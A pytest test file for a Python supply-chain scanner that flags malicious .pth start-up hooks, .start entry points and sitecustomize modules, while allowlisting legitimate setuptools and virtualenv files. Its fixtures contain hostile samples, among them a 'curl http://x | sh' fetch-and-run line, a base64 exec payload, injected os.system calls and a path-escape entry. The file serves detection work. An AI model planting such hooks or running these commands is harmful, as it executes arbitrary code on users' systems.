"""Start-up hooks (issues 4 and 11): .pth files that run code, sitecustomize/usercustomize."""

from __future__ import annotations

import pytest

from wellcheck.artifact.memory import MemoryTree
from wellcheck.checks import CheckContext
from wellcheck.inventory.syspath import TreeRole
from wellcheck.models import ArtifactInfo, Component, ComponentKind, Severity
from wellcheck.signals.integrity import IntegrityCheck
from wellcheck.signals.startup import scan_startup
from wellcheck.signals.startup_allowlist import pth_allowed_by

SITE = "python/lib/python3.12/site-packages"

DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
DISTUTILS_OLD = DISTUTILS.replace("'local') ==", "'stdlib') ==")


def nspkg(*parts: str, has_mfs: bool = True) -> str:
    """The one-liner setuptools writes for a namespace package (two template generations)."""
    pkg = ".".join(parts)
    find = (
        f"importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec({pkg!r}, "
        "[os.path.dirname(p)]))"
    )
    mfs = "has_mfs and " if has_mfs else ""
    lines = [
        "import sys, types, os",
        *(["has_mfs = sys.version_info > (3, 5)"] if has_mfs else []),
        f"p = os.path.join(sys._getframe(1).f_locals['sitedir'], *{parts!r})",
        f"importlib = {mfs}__import__('importlib.util')",
        f"{mfs}__import__('importlib.machinery')",
        f"m = {mfs}sys.modules.setdefault({pkg!r}, {find})",
        f"m = m or sys.modules.setdefault({pkg!r}, types.ModuleType({pkg!r}))",
        "mp = (m or []) and m.__dict__.setdefault('__path__',[])",
        "(p not in mp) and mp.append(p)",
    ]
    if len(parts) > 1:
        lines.append(f"m and setattr(sys.modules[{'.'.join(parts[:-1])!r}], {parts[-1]!r}, m)")
    return ";".join(lines) + "\n"


PTH_CASES: list[tuple[str, str, str | None]] = [
    # (file name, content, expected rule or None)
    ("evil.pth", "import os; os.system('curl http://x | sh')\n", "WC-PTH-EXEC"),
    (".hidden.pth", "import os; os.getpid()\n", "WC-PTH-EXEC"),  # run by Python < 3.13
    ("tabbed.pth", "import\tbase64;exec(base64.b64decode('cHJpbnQoMSk='))\n", "WC-PTH-EXEC"),
    ("hidden.pth", "some/dir\rimport os; os.getpid()\n", "WC-PTH-EXEC"),  # \r ends a line
    ("not-exec.pth", "importos\n#import os\n   \n", None),  # site.py runs neither
    ("hook.start", "evil.hook:run\n", "WC-STARTUP-ENTRYPOINT"),  # CPython 3.15, PEP 829
    ("comments.start", "# nothing to call\n", None),
    (".hidden.start", "evil.hook:run\n", None),  # 3.15 skips hidden names: nothing runs it
    ("paths.pth", "vendored\nsub/dir\n", None),
    ("outside.pth", "/opt/other/site-packages\n", "WC-PTH-PATH"),
    ("escape.pth", "../../../../tmp/drop\n", "WC-PTH-PATH"),
    ("distutils-precedence.pth", DISTUTILS, None),
    ("distutils-precedence.pth", DISTUTILS_OLD, None),
    (
        "distutils-precedence.pth",
        DISTUTILS.rstrip() + " __import__('os').system('id')\n",
        "WC-PTH-EXEC",
    ),
    ("google_api_core-2.19.1-py3.12-nspkg.pth", nspkg("google"), None),
    ("google_cloud_storage-2.17-nspkg.pth", nspkg("google", "cloud", has_mfs=False), None),
    ("zope.interface-6.4-nspkg.pth", nspkg("zope").replace("\n", "\r\n"), None),
    ("google-nspkg.pth", nspkg("google").rstrip() + ";import os;os.system('id')\n", "WC-PTH-EXEC"),
    ("evil.pth", nspkg("google"), "WC-PTH-EXEC"),  # right shape, wrong name
    ("_virtualenv.pth", "import _virtualenv\n", None),
    ("_virtualenv.pth", "import _virtualenv; import socket\n", "WC-PTH-EXEC"),
    ("coverage.pth", "import coverage; coverage.process_startup()\n", None),
    ("coverage.pth", "import coverage, os; os.system('id')\n", "WC-PTH-EXEC"),
    (
        "__editable__.mypkg-1.0.pth",
        "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n",
        None,
    ),
]


@pytest.mark.parametrize(("name", "content", "expected"), PTH_CASES)
def test_pth_files_are_judged_by_name_and_content(
    name: str, content: str, expected: str | None
) -> None:
    tree = MemoryTree({f"{SITE}/{name}": content.encode()})
    findings, skipped = scan_startup(tree, TreeRole.BUNDLE)
    assert [f.rule for f in findings] == ([expected] if expected else []) and skipped == []
    severity = {
        "WC-PTH-EXEC": Severity.HIGH,
        "WC-PTH-PATH": Severity.INFO,
        "WC-STARTUP-ENTRYPOINT": Severity.HIGH,
    }
    assert all(f.severity is severity[f.rule] and f.kind == "startup" for f in findings)


def test_a_reused_allowlisted_name_says_so() -> None:
    assert pth_allowed_by("distutils-precedence.pth", ["import os; os.system('id')"]) is None
    tree = MemoryTree({f"{SITE}/distutils-precedence.pth": b"import os; os.system('id')\n"})
    (finding,), _ = scan_startup(tree, TreeRole.BUNDLE)
    assert "named like the setuptools" in finding.title
    assert "os.system" in finding.evidence


def test_pth_files_outside_site_roots_are_not_start_up_hooks() -> None:
    tree = MemoryTree({f"{SITE}/pkg/data/evil.pth": b"import os\n"})
    assert scan_startup(tree, TreeRole.BUNDLE) == ([], [])


CUSTOMIZE_CASES: list[tuple[str, bool]] = [
    (f"{SITE}/sitecustomize.py", True),
    (f"{SITE}/usercustomize.py", True),
    (f"{SITE}/sitecustomize.pyc", True),
    (f"{SITE}/sitecustomize.cpython-312-x86_64-linux-gnu.so", True),
    (f"{SITE}/sitecustomize/__init__.py", True),
    ("python/lib/python3.12/sitecustomize.py", True),  # the stdlib dir above site-packages
    ("sitecustomize.py", True),  # the function root of a zip
    ("python/sitecustomize.py", True),  # a layer's python/ root
    (f"{SITE}/ddtrace/bootstrap/sitecustomize.py", False),  # inside a package: not imported
    (f"{SITE}/sitecustomize.txt", False),
    (f"{SITE}/sitecustomize_helpers.py", False),
]


@pytest.mark.parametrize(("path", "flagged"), CUSTOMIZE_CASES)
def test_customize_modules_on_sys_path_are_high(path: str, flagged: bool) -> None:
    tree = MemoryTree({path: b"import os\n", "handler.py": b"def handler(e, c): pass\n"})
    findings, _ = scan_startup(tree, TreeRole.BUNDLE, [SITE])
    if flagged:
        (finding,) = findings
        assert (finding.rule, finding.severity) == ("WC-STARTUP-SITECUSTOMIZE", Severity.HIGH)
        assert finding.location.endswith(path.split("/__init__.py")[0])
    else:
        assert findings == []


def test_image_function_roots_are_lambdas_task_and_layer_dirs() -> None:
    site = "var/lang/lib/python3.12/site-packages"
    component = Component(
        "boto3", "1.34.0", ComponentKind.DIST_INFO, f"{site}/boto3-1.34.0.dist-info", site_root=site
    )
    tree = MemoryTree(
        {
            "var/task/sitecustomize.py": b"import os\n",
            "sitecustomize.py": b"",  # the image's / is not on sys.path
            f"{site}/boto3-1.34.0.dist-info/RECORD": b"boto3/__init__.py,,\n",
            f"{site}/boto3/__init__.py": b"",
        }
    )
    context = CheckContext(ArtifactInfo(path="img.tar", kind="docker-archive"), trees=(tree,))
    result = IntegrityCheck(workers=1).run([component], context)
    assert [f.location for f in result.findings] == ["var/task/sitecustomize.py"]


def test_a_hook_is_attributed_to_the_distribution_that_installed_it() -> None:
    from test_integrity import install

    files, component = install(
        "evil-helper", "0.1.0", {"evil_helper/__init__.py": b"", "evil_helper.pth": b"import os\n"}
    )
    context = CheckContext(
        ArtifactInfo(path="l.zip", kind="lambda-layer"), trees=(MemoryTree(files),)
    )
    (finding,) = IntegrityCheck(workers=1).run([component], context).findings
    assert (finding.rule, finding.package, finding.version) == (
        "WC-PTH-EXEC",
        "evil-helper",
        "0.1.0",
    )
    assert finding.location == f"{SITE}/evil_helper.pth"
